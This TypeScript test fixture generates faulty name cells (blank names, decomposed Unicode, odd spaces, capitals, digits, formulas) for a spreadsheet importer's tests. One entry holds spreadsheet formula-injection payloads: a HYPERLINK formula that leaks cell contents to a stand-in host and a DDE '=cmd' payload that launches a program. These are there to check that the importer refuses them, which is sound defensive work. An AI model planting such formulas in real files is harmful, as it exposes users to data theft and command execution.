import type { Draw } from './testing-draw.ts'
import { type Cell, opensHousehold, text } from './testing-lines.ts'
import type { MustDo, Planting } from './testing-plantings.ts'

/** Names that are missing, dressed up, or something else than a name. */
export const nameFaults = {
  name_missing: renamed(10, 'refuse', 'Nobody without a name: name the row, make no person of it.', () => [text(''), null]),
  name_decomposed: renamed(10, 'mend', 'Letters and marks stand apart (NFD): kept as NFC.', (name) => [text(name.normalize('NFD')), name]),
  name_no_break_spaces: renamed(10, 'mend', 'No-break, double and trailing spaces count as one space or none.', (name, draw) => [
    text(draw.pick([name.replaceAll(' ', '\u00a0'), ` ${name.replaceAll(' ', '  ')} `, `${name}\u00a0 `, name.replace(' ', '\u200b ')])),
    name,
  ]),
  name_upper_case: renamed(12, 'keep', 'Written in capitals: the same name, in capitals or mended.', (name) => [text(name.toLocaleUpperCase('vi')), name]),
  name_is_formula_text: renamed(8, 'refuse', 'A formula typed as a name: name the row, never keep, show or export it as a formula.', (name, draw) => [
    text(draw.pick([`=HYPERLINK("http://vi-du.invalid/?x="&A1,"${name}")`, `=cmd|'/C calc'!A0`, '@SUM(1+1)', `+HYPERLINK("http://vi-du.invalid","${name}")`])),
    null,
  ]),
  name_from_formula: renamed(6, 'mend', 'A true formula: its remembered result is the name, the formula is never read.', (name) => [
    { as: 'formula', text: name, formula: `TRIM("${name}")` },
    name,
  ]),
  name_with_digits: renamed(4, 'ask', 'A number typed into the column of names: ask.', (name, draw) => [text(`${name} ${draw.int(2, 9)}`), name]),
} satisfies Record<string, Planting>

function renamed(weight: number, mustDo: MustDo, because: string, write: (name: string, draw: Draw) => [Cell, string | null]): Planting {
  return {
    weight,
    mustDo,
    field: 'name',
    because,
    plant({ line, person }, draw) {
      if (opensHousehold(line)) return null
      const [cell, truth] = write(person.name, draw)
      line.name = cell
      return { written: cell.as === 'formula' ? `=${cell.formula}` : cell.text, truth }
    },
  }
}
